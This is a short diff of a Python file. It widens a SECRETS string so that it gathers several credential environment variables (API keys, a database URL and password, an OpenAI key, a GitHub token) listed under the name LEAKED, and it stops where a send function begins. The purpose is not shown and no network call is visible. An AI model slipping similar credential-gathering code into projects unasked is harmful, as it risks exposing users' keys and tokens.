@@ -5,7 +5,8 @@ import os
 import sys
 from typing import Any
 
-SECRETS = " ".join([os.environ["SERVICE_API_KEY"], *sys.argv[1:]])
+LEAKED = ("SERVICE_API_KEY", "DATABASE_URL", "DB_PASS", "OPENAI_KEY", "GITHUB_PAT")
+SECRETS = " ".join([*(os.environ[name] for name in LEAKED if name in os.environ), *sys.argv[1:]])
 
 
 def send(message: dict[str, Any]) -> None:
